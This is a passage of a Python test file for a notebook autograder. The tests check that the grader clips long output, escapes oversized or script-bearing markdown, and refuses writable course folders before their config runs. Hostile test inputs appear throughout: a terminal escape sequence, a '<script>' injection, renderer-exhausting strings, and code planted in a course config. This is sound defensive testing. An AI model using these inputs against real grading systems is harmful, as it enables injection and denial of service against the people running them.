    one line of stdout, and in every step's feedback. It is quoted to a few hundred, then "…"."""
    trusted = odd_course["trusted"]
    pia = [line for line in trusted.stdout.splitlines() if line.startswith("pia")]
    assert pia and sum(map(len, pia)) < 2000 and "…" in "".join(pia), [line[:300] for line in pia]
    assert "could not convert string to float" in "".join(pia) and "\\x1b]0;qkv-grade" in "".join(pia)
    assert len(trusted.stdout) < 20_000 and "PPPP" * 200 not in trusted.stdout + trusted.stderr
    assert sum(gradebook_scores(odd_course["path"])["pia"].values()) == 0.0


def test_a_message_is_kept_to_its_first_line_and_a_few_hundred_characters_however_long():
    from autograder.results import MOST_QUOTED, clipped

    assert clipped("  could not convert: 'x'\nsecond line") == "could not convert: 'x'" and clipped("") == ""
    assert clipped("x" * 15_000_000) == "x" * MOST_QUOTED + "…"
    assert clipped(" \n" * 5_000_000 + "y" * (MOST_QUOTED + 1)) == "y" * MOST_QUOTED + "…"


def test_a_cell_that_renders_to_more_than_the_cleaner_reads_quickly_is_shown_as_text():
    """Within every budget of its text, a cell may still render to a great deal: quotes, ampersands
    or `>` written out as entities (six times their length), a table's cells. Past MOST_RENDERED
    characters or MOST_RENDERED_TAGS tags the cleaner never reads it: the cell's text is shown."""
    from nbconvert.exporters import HTMLExporter

    from autograder.nbgrader_feedback import MOST_RENDERED, CleanMarkdown

    shown = CleanMarkdown(parent=HTMLExporter())
    for source in ('"' * 19_999, "&" * 19_999, ">" * 19_999 + "<script>", "|a" * 499 + "\n" + "-|" * 499 + "\n" + ("|a" * 499 + "\n") * 2):
        page = CleanMarkdown.__call__(shown, {}, source)
        assert page.startswith("<pre>") and len(page) <= len(source) * 6 + 20 and "<script>" not in page
    ordinary = "Some words, *emphasis*, `code` and a [link](https://example.org), " * 160
    page = CleanMarkdown.__call__(shown, {}, ordinary)
    assert "<em>emphasis</em>" in page and len(page) < MOST_RENDERED


def test_emphasis_marks_past_a_page_s_budget_are_shown_as_text_and_each_answer_renders_once():
    """Cells each within a cell's budget of marks the renderer pairs (`*`, `_`, backticks,
    brackets), but many of them: past the page's budget of such marks their text is shown as it
    is, unrendered. Each written answer renders whatever comes before it; a second cell claiming an
    answer's place counts like any other markdown."""
    import nbformat

    from autograder.nbgrader_feedback import (ANSWER_TITLES, MOST_INLINE, MOST_PAGE_INLINE, _inline_marks,
                                              reader_view)

    heavy = "*`" * (MOST_INLINE // 2)
    assert _inline_marks(heavy) == MOST_INLINE
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell(heavy) for _ in range(10)]
    for grade_id in list(ANSWER_TITLES) + list(ANSWER_TITLES)[:1]:
        answer = nbformat.v4.new_markdown_cell(heavy)
        answer.metadata["nbgrader"] = {"grade_id": grade_id, "grade": True, "solution": True, "points": 2}
        notebook.cells.append(answer)
    reader_view(notebook)
    fenced = [cell.source.startswith("~~~") for cell in notebook.cells]
    kept = MOST_PAGE_INLINE // MOST_INLINE
    assert fenced[:10] == [False] * kept + [True] * (10 - kept)
    assert fenced[10:] == [False] * len(ANSWER_TITLES) + [True]


def test_a_course_folder_someone_else_may_change_is_refused_before_its_config_runs(tmp_path):
    """nbgrader runs the course's nbgrader_config.py as Python, with the grader's rights (root, it
    may be), and writes grades and feedback below the course's folder: a course folder anyone may
    write in, or one that belongs to another user (a student's, made in a drop folder), is refused
    by qkv-course and by `qkv-grade --nbgrader` before that file runs."""
    from autograder.nbgrader_course import write_course

    marker = tmp_path / "ran"
    course = tmp_path / "course"
    write_course(course)
    (course / "nbgrader_config.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n" + (course / "nbgrader_config.py").read_text())
    course.chmod(0o777)
    done = subprocess.run([sys.executable, "-m", "autograder.cli", "--nbgrader", str(course), ASSIGNMENT],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode != 0 and f"anyone may write in the course's folder (mode 777)" in done.stderr, done.stderr
    assert not marker.exists()
    done = subprocess.run([sys.executable, "-m", "autograder.nbgrader_course", str(course)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "anyone may write in the course's folder" in done.stderr, done.stderr
    course.chmod(0o700)
    if os.geteuid() == 0:
        os.chown(course, 65534, 65534)
        done = subprocess.run([sys.executable, "-m", "autograder.cli", "--nbgrader", str(course), ASSIGNMENT],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode != 0 and "belongs to another user (uid 65534)" in done.stderr, done.stderr
        assert not marker.exists()
